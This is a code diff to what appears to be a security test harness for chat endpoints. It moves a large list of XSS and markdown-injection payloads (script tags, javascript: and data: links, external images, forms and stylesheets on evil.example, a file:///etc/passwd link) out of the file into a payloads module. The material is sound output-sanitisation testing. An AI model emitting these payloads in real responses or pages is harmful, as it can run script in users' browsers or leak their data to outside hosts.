@@ -10,92 +10,13 @@ from typing import Any
 
 from httpx import AsyncClient
 
+from scripts.attacks.payloads import load_payloads
 from scripts.harness.checks import Report
 from scripts.harness.servers import CHAT, COMPLETIONS, STREAM, Target
 from scripts.harness.uploads import read_events, upload_files
 
-_HTML = (
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<script\n>alert(1)</script\n>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<IMG SRC=`javascript:alert(1)`>",
-    "<svg onload=alert(1)>",
-    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<object data=data:text/html,x></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<form action=//evil.example><input name=p></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<a href=javascript:alert(1)>点这里</a>",
-    "<a href='&#106;avascript:alert(1)'>点这里</a>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-    "<table background=//evil.example/x.png>",
-    "<div style=background:url(//evil.example/x.png)>x</div>",
-    "<!-- <img src=x onerror=alert(1)> -->x",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><x/>",
-    "</p><script>alert(1)</script>",
-    "<<script>alert(1);//<</script>",
-    "<x\u200b><scr\u200bipt>alert(1)</scr\u200bipt>",
-    "<br><b>粗体</b>",
-)
-_LINKS = (
-    "[点这里](javascript:alert(1))",
-    "[点这里](JaVaScRiPt:alert(1))",
-    "[点这里](java\tscript:alert(1))",
-    "[点这里]( javascript:alert(1))",
-    "[点这里](\u0001javascript:alert(1))",
-    "[点这里](<javascript:alert(1)>)",
-    "[点这里](&#106;avascript:alert(1))",
-    "[点这里](&#x6A;avascript&colon;alert(1))",
-    "[点这里](javascript&#58;alert(1))",
-    "[点这里](java\\script:alert(1))",
-    "[点这里](javascript:alert(1) '说明')",
-    "[点这里](javascript://example.com/%0aalert(1))",
-    "[点这里](vbscript:msgbox(1))",
-    "[点这里](data:text/html;base64,PHNjcmlwdD4=)",
-    "[点这里](DATA:text/html,x)",
-    "[点这里](file:///etc/passwd)",
-    "[点这里](blob:https://x/1)",
-    "[点这里](intent://x#Intent;end)",
-    "[点这里](weixin://dl/x)",
-    "[a\\]点这里](javascript:alert(1))",
-    "[a `x](javascript:alert(1)) y`",
-    "[外 [内](javascript:alert(1)) 外](https://example.com)",
-    "[[[[点这里](javascript:alert(1))",
-    "[x]![](u)(javascript:alert(1))",
-    "[点这里][r] [r]: javascript:alert(1)",
-    "[r]: javascript:alert(1)",
-    "[r]:\tdata:text/html,x",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "[好](https://example.com/a_(b)) [帮助](/help/a.html)",
-)
-_IMAGES = (
-    "![图](https://evil.example/x.png?d=1)",
-    "![](https://evil.example/x.png)",
-    "![图](//evil.example/x.png)",
-    "![图](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![图][r]",
-    "![图](<https://evil.example/x y.png>)",
-    "![图](https://evil.example/x.png '题')",
-    "[![图](https://evil.example/x.png)](javascript:alert(1))",
-    "[![图](https://evil.example/x.png)](https://example.com)",
-    "!![](x)[图](https://evil.example/x.png)",
-    "![外 ![内](https://evil.example/1.png)](https://evil.example/2.png)",
-    "![图](https://evil.example/" + "长" * 700 + ".png)",
-)
-PAYLOADS = (*_HTML, *_LINKS, *_IMAGES)
+_LONG_IMAGE = f"![图](https://evil.example/{'长' * 700}.png)"
+PAYLOADS = [*(text for kind in ("html", "links", "images") for text in load_payloads("outgoing")[kind]), _LONG_IMAGE]
 _LINK = re.compile(r"\]\(\s*<?([^)>\s]*)")
 _SAFE = re.compile(r"(?:https?://|mailto:|tel:|[/#?]|[\w.%-]+(?:[/#?]|$))", re.IGNORECASE)
 
